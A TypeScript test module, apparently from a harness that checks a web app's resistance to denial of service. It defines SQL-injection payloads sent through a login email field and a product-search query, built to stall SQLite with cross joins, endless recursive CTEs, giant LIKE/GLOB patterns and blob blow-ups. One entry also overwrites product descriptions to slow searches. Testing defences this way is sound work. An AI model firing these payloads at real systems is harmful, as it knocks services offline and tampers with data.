import { createClient } from '../../support/client.ts';
import type { Stall } from './stall.ts';

/**
 * Puts a condition into the email of a login.
 * @param times scale of the attempt, for the numbers in the condition
 */
type Condition = (times: (count: number) => number) => string;

const measure = 'a reader that is ended at its deadline';

function inLogin(title: string, condition: Condition, controlScale = 0.5): Stall {
  return {
    cause: "a learner's own SQL",
    through: 'login',
    title,
    measure,
    harm: 'silence',
    controlScale,
    attack: async ({ url, scale }) => {
      await logIn(url, `' OR (${condition((count) => Math.ceil(count * scale))}) > 0--`);
    },
  };
}

function logIn(url: string, email: string): Promise<unknown> {
  return createClient(url).post('/rest/user/login', { email, password: 'x' });
}

/** Generates so many rows out of nothing. */
const rows = (count: number) =>
  `(SELECT a.id AS i FROM Products a, Products b, Products c, Users d, Users e LIMIT ${count})`;

const endless = (first: number) =>
  `WITH RECURSIVE n(i) AS (SELECT ${first} UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n`;

/** Ways to keep SQLite busy or to fill its memory, in a few characters. */
export const sqlStalls: readonly Stall[] = [
  inLogin(
    'instr over the product of tables',
    (times) => `SELECT sum(instr(hex(zeroblob(500)) || i, 'x')) FROM ${rows(times(3_000_000))}`,
  ),
  inLogin(
    'a LIKE pattern of 49 KB',
    (times) => `SELECT hex(zeroblob(${times(80_000)})) LIKE '%${'0'.repeat(49_000)}1'`,
  ),
  inLogin(
    'json_each crossed with itself',
    (times) => {
      const list = `json_each('[${Array(times(160)).fill(1)}]')`;
      return `SELECT count(*) FROM ${list} a, ${list} b, ${list} c, Users d WHERE a.value + b.value + c.value + d.id < 0`;
    },
    0.5,
  ),
  inLogin(
    'group_concat of millions',
    (times) => `SELECT length(group_concat(i || 'x')) FROM ${rows(times(40_000_000))}`,
    1,
  ),
  inLogin(
    'printf with a width of a million',
    (times) => `SELECT sum(length(printf('%1000000d', i))) FROM ${rows(times(12_000))}`,
  ),
  inLogin(
    'DISTINCT random blobs',
    (times) => `SELECT count(*) FROM (SELECT DISTINCT randomblob(500) FROM ${rows(times(600_000))})`,
  ),
  inLogin(
    'sorting millions of rows',
    (times) =>
      `SELECT count(*) FROM (SELECT random() AS r, hex(randomblob(50)) FROM ${rows(times(3_000_000))} ORDER BY r LIMIT 100000000)`,
  ),
  inLogin(
    'a window that is recounted for each row',
    (times) =>
      `SELECT sum(r) FROM (SELECT count(*) OVER (ORDER BY i ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING EXCLUDE CURRENT ROW) AS r FROM ${rows(times(20_000))})`,
  ),
  inLogin('an endless recursion', () => endless(0)),
  inLogin(
    'replace() that grows a text',
    (times) => `SELECT sum(length(replace(hex(zeroblob(10000)), '0', 'x0y0z0' || i))) FROM ${rows(times(48_000))}`,
  ),
  inLogin(
    'hex(zeroblob()) again and again',
    (times) => `SELECT sum(length(hex(zeroblob(400000 + i)))) FROM ${rows(times(6000))}`,
  ),
  inLogin(
    'GLOB over a long text',
    (times) => `SELECT sum(hex(zeroblob(2000)) GLOB '*${'[0-9]'.repeat(30)}x' || i) FROM ${rows(times(4000))}`,
  ),
  inLogin(
    'an expression as deep as the limit allows',
    (times) => `SELECT sum(i${' + i'.repeat(450)}) FROM ${rows(times(2_400_000))}`,
  ),
  inLogin(
    'as many selects as one statement may have',
    (times) =>
      `SELECT count(*) FROM (${Array(400)
        .fill(`SELECT i, random() AS r FROM ${rows(times(4000))}`)
        .join(' UNION ')})`,
  ),
  inLogin(
    'the pages of the file, crossed',
    (times) =>
      `SELECT count(*) FROM dbstat a, dbstat b, dbstat c, Challenges d WHERE d.id <= ${times(44)} AND a.payload + b.payload + c.payload < 0`,
  ),
  {
    ...inLogin('sixteen endless recursions at once', () => ''),
    measure: 'readers that have less time for a query while others wait, and a full queue refuses',
    controlScale: 0.2,
    attack: async ({ url, scale }) => {
      await Promise.all(Array.from({ length: 16 * scale }, (_, first) => logIn(url, `' OR (${endless(first)}) > 0--`)));
    },
  },
  {
    ...inLogin('the product of tables in 200 characters', () => ''),
    through: 'product search',
    attack: async ({ url }) => {
      const from = 'Products a,Products b,Products c,Users d,Users e';
      const criteria = `x')) UNION SELECT count(*),2,3,4,5,6,7,8,9 FROM ${from} WHERE max(a.id,b.id,c.id,d.id,e.id)<0--`;
      await createClient(url).get(`/rest/products/search?q=${encodeURIComponent(criteria)}`);
    },
  },
  {
    ...inLogin('long words in long descriptions, without any SQL', () => ''),
    through: 'product search',
    measure: 'plain searches are handed to a reader where there is much to search',
    fills: true,
    controlScale: 0.5,
    attack: async ({ url, scale }) => {
      const client = createClient(url);
      const description = 'a'.repeat(10_000);
      for (let id = 1; id <= 40; id += 1) {
        await client.call('PUT', `/api/Products/${id}`, { body: { description } });
      }
      const words = Array.from({ length: 40 * scale }, (_, turn) => `${'a'.repeat(190)}${turn}`);
      await Promise.all(words.map((word) => createClient(url).get(`/rest/products/search?q=${word}`)));
    },
  },
];
